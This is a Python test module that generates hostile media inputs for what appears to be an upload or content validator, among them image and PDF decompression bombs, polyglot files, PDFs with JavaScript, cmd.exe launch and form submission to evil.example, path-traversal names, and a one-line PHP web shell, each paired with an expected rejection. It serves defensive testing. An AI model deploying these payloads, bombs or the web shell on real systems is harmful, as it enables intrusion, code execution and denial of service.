"""Pictures that are bombs, programs or no pictures, and paths that lead out of media/."""

import struct
import zlib
from io import BytesIO

from PIL import Image

from tests.hostile.case import Case, File, Folder, Link, Pipe, event

_HTML = b"<html><script>alert(1)</script></html>"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, data: bytes = b"", *more: bytes) -> bytes:
    """Return a PNG (RFC 2083) that says that it is so large, whatever is in it."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(data, 1)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + b"".join(more) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")
    )


def _written(kind: str, **more: object) -> bytes:
    stream = BytesIO()
    Image.new("RGB", (8, 8), "#1b5e4b").save(stream, kind, **more)
    return stream.getvalue()


def _moving(kind: str, frames: int, **more: object) -> bytes:
    stream = BytesIO()
    pictures = [Image.new("RGB", (2, 2), (n % 256, n // 256, 0)) for n in range(frames)]
    pictures[0].save(stream, kind, save_all=True, append_images=pictures[1:], **more)
    return stream.getvalue()


def _pdf(*objects: bytes) -> bytes:
    """Return a PDF of these objects; nobody needs its list of where they are to look what they do."""
    numbered = b"".join(b"%d 0 obj\n%b\nendobj\n" % (number, one) for number, one in enumerate(objects, 1))
    return b"%PDF-1.7\n" + numbered + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def _packed(content: bytes, *, keys: bytes = b"", packed: bool = True) -> bytes:
    """Return a stream of objects (ISO 32000-1, 7.5.7)."""
    data = zlib.compress(content) if packed else content
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode%b /Length %d >>\nstream\n%b\nendstream" % (
        keys,
        len(data),
        data,
    )


_ALERT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
_PLAIN = b"<< /Type /Catalog /Pages 2 0 R >>"
_FLYERS: dict[str, tuple[bytes, str | None]] = {
    "that-is-plain": (_pdf(_PLAIN, b"<< /Title (Cursus HTML/JavaScript) /OpenAction [2 0 R /Fit] >>"), None),
    "with-a-script": (_pdf(b"<< /Type /Catalog /OpenAction " + _ALERT + b" >>"), "flyer-not-plain"),
    "with-a-script-written-tight": (_pdf(b"<</AA<</O<</S/JavaScript/JS(x)>>>>>>"), "flyer-not-plain"),
    "with-a-script-in-other-letters": (_pdf(b"<< /S /J#61vaScr#69pt /JS (x) >>"), "flyer-not-plain"),
    "with-a-script-behind-a-remark": (_pdf(b"<< /S % / remark\n/JavaScript /JS (x) >>"), "flyer-not-plain"),
    "with-a-script-elsewhere": (_pdf(b"<< /S 2 0 R /JS (x) >>", b"/JavaScript"), "flyer-not-plain"),
    "with-a-script-that-is-packed": (_pdf(_PLAIN, _packed(b"3 0 " + _ALERT)), "flyer-not-plain"),
    "with-a-program": (_pdf(b"<< /S /Launch /Win << /F (cmd.exe) >> >>"), "flyer-not-plain"),
    "with-a-form-that-is-sent": (_pdf(b"<< /S /SubmitForm /F (https://evil.example/) >>"), "flyer-not-plain"),
    "with-a-file": (_pdf(b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"), "flyer-not-plain"),
    "with-objects-that-are-packed": (_pdf(_PLAIN, _packed(b"3 0 " + _PLAIN), _packed(b"4 0 [1 0 R]")), None),
    "with-a-lock": (_pdf(b"<< /Encrypt 9 0 R >>", _packed(b"\x17" * 40, packed=False)), "flyer-locked"),
    "with-rows-that-lean": (_pdf(_packed(b"3 0 x", keys=b" /DecodeParms << /Predictor 12 >>")), "flyer-locked"),
    "bomb-of-objects": (_pdf(_packed(b" " * 30_000_000)), "flyer-locked"),
    "of-beginnings": (_pdf(b"stream\n#41" * 300_000), None),
    "of-scripts-that-are-words": (_pdf(b"a/JavaScript" * 300_000), None),
}


def _gif_with(*parts: bytes) -> bytes:
    whole = _moving("GIF", 3)
    return whole[:-1] + b"".join(parts) + b";"


_SMALL = _png(2, 2, b"\0" + b"\1\2\3" * 2 + b"\0" + b"\1\2\3" * 2)
_JPEG = _written("JPEG")


def _scans(more: int) -> bytes:
    """Return a JPEG that becomes sharp step by step, with so many more steps."""
    picture = _written("JPEG", progressive=True)
    last = picture[picture.rfind(b"\xff\xda") : -2]
    return picture[:-2] + last * more + picture[-2:]


_EXIF = (
    b"Exif\0\0" + b"II*\0\x08\0\0\0\x01\0\x0e\x01\x02\0\x20\0\0\0\x1a\0\0\0\0\0\0\0<script>alert('exif')</script>\0\0\0"
)

_PICTURES: dict[str, tuple[str, File, str | None]] = {
    "bomb-of-2500-million-pixels": ("bom.png", _png(50_000, 50_000), "picture-too-large"),
    "bomb-of-two-sides": ("lang.png", _png(2_147_483_647, 1), "picture-too-large"),
    "bomb-of-a-tower": ("toren.png", _png(1, 16_384, b"\0\0\0\0" * 16_384), "picture-too-large"),
    "picture-of-the-highest-tower": ("hoog.png", _png(1, 16_383, b"\0\0\0\0" * 16_383), None),
    "bomb-of-a-thread": ("draad.png", _png(40_000_000, 1), "picture-too-large"),
    "bomb-of-scans": ("beurten.jpg", _scans(100), "picture-unreadable"),
    "bomb-that-unpacks": ("dik.png", _png(7_000, 7_000, b"\0" * (21_001 * 7_000)), None),
    "bomb-of-a-remark": (
        "opmerking.png",
        _png(2, 2, b"\0" * 14, _chunk(b"zTXt", b"x\0\0" + zlib.compress(b"x" * 50_000_000, 1))),
        "picture-unreadable",
    ),
    "bomb-of-a-profile": (
        "profiel.png",
        _png(2, 2, b"\0" * 14, _chunk(b"iCCP", b"x\0\0" + zlib.compress(b"x" * 50_000_000, 1))),
        "picture-unreadable",
    ),
    "bomb-of-a-gif": ("bom.gif", b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\0\0\0;", "picture-unreadable"),
    "bomb-of-frames": ("beelden.gif", _moving("GIF", 400), None),
    "bomb-of-a-webp": (
        "bom.webp",
        b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0\x2f\xff\xff\xff\x0f\0\0\0\0\0\0\0\0\0",
        "picture-too-large",
    ),
    "bomb-of-a-jpeg": (
        "bom.jpg",
        b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xd9",
        "picture-too-large",
    ),
    "picture-of-no-size": ("leeg.png", _png(0, 0), "picture-unreadable"),
    "picture-that-stops": ("half.png", _SMALL[:40], "picture-unreadable"),
    "picture-that-stops-early": ("half.jpg", _JPEG[: len(_JPEG) // 2], "picture-unreadable"),
    "picture-of-one-byte": ("byte.png", b"\x89", "media-not-what-it-says"),
    "picture-of-nothing": ("niets.png", b"", "media-not-what-it-says"),
    "page-as-a-picture": ("pagina.png", _HTML, "media-not-what-it-says"),
    "page-behind-a-head-of-a-picture": ("kop.png", b"\x89PNG\r\n\x1a\n" + _HTML, "picture-unreadable"),
    "page-behind-a-head-of-a-gif": ("kop.gif", b"GIF89a" + _HTML, "picture-unreadable"),
    "script-as-a-gif": ("script.gif", b"GIF89a/*" + b"\0" * 8 + b"*/=alert(1)//;", "picture-unreadable"),
    "drawing-as-a-picture": (
        "tekening.png",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "media-not-what-it-says",
    ),
    "drawing-as-itself": ("tekening.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "media-kind"),
    "jpeg-as-a-png": ("wissel.png", _JPEG, "media-not-what-it-says"),
    "tiff-as-a-jpeg": ("wissel.jpg", b"II*\0" + b"\0" * 100, "media-not-what-it-says"),
    "zip-as-a-webp": ("wissel.webp", b"PK\x03\x04" + b"\0" * 100, "media-not-what-it-says"),
    "sound-as-a-webp": ("geluid.webp", b"RIFF\x24\0\0\0WAVEfmt " + b"\0" * 28, "picture-unreadable"),
    "page-as-itself": ("pagina.html", _HTML, "media-kind"),
    "script-as-itself": ("script.js", b"alert(1)", "media-kind"),
    "program-of-php": ("plaatje.png.php", _SMALL, "media-kind"),
    "picture-of-eleven-megabytes": ("groot.png", _SMALL + b"\0" * 11_000_000, "file-too-large"),
    "picture-behind-a-link": ("link.png", Link(to="/etc/passwd"), "file-is-link"),
    "picture-in-a-linked-folder": ("map/x.png", _SMALL, None),
    "picture-that-is-a-pipe": ("pijp.png", Pipe(), "file-not-regular"),
    "picture-that-is-a-folder": ("map.png", Folder(), "file-not-regular"),
    "picture-with-a-page-behind-it": ("staart.png", _SMALL + _HTML, None),
    "picture-with-a-zip-behind-it": ("staart.jpg", _JPEG + b"PK\x03\x04" + _HTML, None),
    "picture-with-a-remark": ("tekst.jpg", _written("JPEG", comment=_HTML), None),
    "picture-with-a-text": ("tekst.png", _png(2, 2, b"\0" * 14, _chunk(b"tEXt", b"Comment\0" + _HTML)), None),
    "picture-with-a-chunk-of-its-own": ("eigen.png", _png(2, 2, b"\0" * 14, _chunk(b"evIl", _HTML)), None),
    "moving-picture-with-a-remark": ("beweegt.gif", _gif_with(b"!\xfe", bytes((len(_HTML),)), _HTML, b"\0"), None),
    "moving-picture-with-a-page-behind-it": ("beweegt-staart.gif", _moving("GIF", 3) + _HTML + b"PK\x03\x04", None),
    "moving-picture-with-a-place": ("beweegt.webp", _moving("WEBP", 3, exif=_EXIF, xmp=_HTML), None),
    "moving-picture-that-stops": ("beweegt-half.gif", _gif_with(b"!\xfe\xff", _HTML)[:-1], "picture-unreadable"),
    "picture-with-a-place": ("plek.jpg", _written("JPEG", exif=_EXIF), None),
}
_PATHS = {
    "climbs": "../region.yaml",
    "climbs-far": "../../../../etc/passwd",
    "climbs-in-the-middle": "a/../../../region.png",
    "climbs-with-percents": "'%2e%2e/%2e%2e/etc/passwd.png'",
    "climbs-with-backslashes": "..\\..\\region.png",
    "of-the-root": "/etc/passwd",
    "of-the-root-twice": "//evil.example/x.png",
    "of-a-drive": "C:\\x.png",
    "of-an-address": "https://evil.example/x.png",
    "of-data": "data:image/png;base64,AAAA",
    "of-a-script": "'javascript:alert(1)'",
    "of-a-hidden-file": ".htaccess.png",
    "of-markup": "'\"><script>alert(1)</script>.png'",
    "of-a-nul": '"x\\0.png"',
    "of-a-line-end": '"x\\n.png"',
    "of-jinja": "'{{ 7 * 7 }}.png'",
    "of-a-device": "/dev/zero",
    "of-ten-thousand-letters": "a" * 10_000 + ".png",
    "of-a-stream": "klein.png:evil",
    "of-dots": "....png",
}


def _shown(name: str, file: str, content: File, code: str | None) -> Case:
    path = f"media/{name}/{file}"
    return event(
        f"media-{name}",
        *([code] if code else []),
        afbeelding=f"{{bestand: {name}/{file}, beschrijving: Een plaatje}}",
        files={path: content},
    )


CASES: tuple[Case, ...] = (
    *(_shown(name, file, content, code) for name, (file, content, code) in _PICTURES.items()),
    *(
        event(
            f"media-path-{name}",
            "forbidden-character"
            if name == "of-a-nul"
            else "name-too-long"
            if name == "of-ten-thousand-letters"
            else "bad-media-path",
            afbeelding=f"{{bestand: {path}, beschrijving: Een plaatje}}",
        )
        for name, path in _PATHS.items()
    ),
    *(
        event(f"media-flyer-{name}", "bad-media-path", bijlagen=f"{{bestand: {path}, titel: Flyer}}")
        for name, path in list(_PATHS.items())[:8]
    ),
    event(
        "media-folder-that-is-a-link",
        "file-is-link",
        afbeelding="{bestand: elders/hosts.png, beschrijving: Een plaatje}",
        files={"media/elders": Link(to="/etc")},
    ),
    event(
        "media-flyer-that-is-a-page",
        "media-not-what-it-says",
        bijlagen="{bestand: flyer-pagina.pdf, titel: Flyer}",
        files={"media/flyer-pagina.pdf": _HTML},
    ),
    *(
        event(
            f"media-flyer-{name}",
            *([code] if code else []),
            bijlagen=f"{{bestand: flyer-{name}.pdf, titel: Flyer}}",
            files={f"media/flyer-{name}.pdf": content},
        )
        for name, (content, code) in _FLYERS.items()
    ),
    event(
        "media-flyer-of-word",
        "media-kind",
        bijlagen="{bestand: flyer.docm, titel: Flyer}",
        files={"media/flyer.docm": b"PK\x03\x04"},
    ),
    event(
        "media-in-a-body-that-is-a-page",
        body="![x](media/in-een-tekst.png)",
        files={"media/in-een-tekst.png": _HTML},
    ),
    event("media-in-a-body-that-climbs", body="![x](media/../../../etc/passwd) ![y](media/..%2f..%2fregion.yaml)"),
    Case(
        name="media-that-nobody-asks-for",
        files={"media/achterdeur.php": b"<?php system($_GET[0]); ?>", "media/.htaccess": b"AddType text/html .png"},
    ),
)
SHARED: dict[str, File] = {"media/klein.png": _SMALL, "media/klein.pdf": b"%PDF-1.4\n%%EOF\n"}
"""What cases about other things show."""
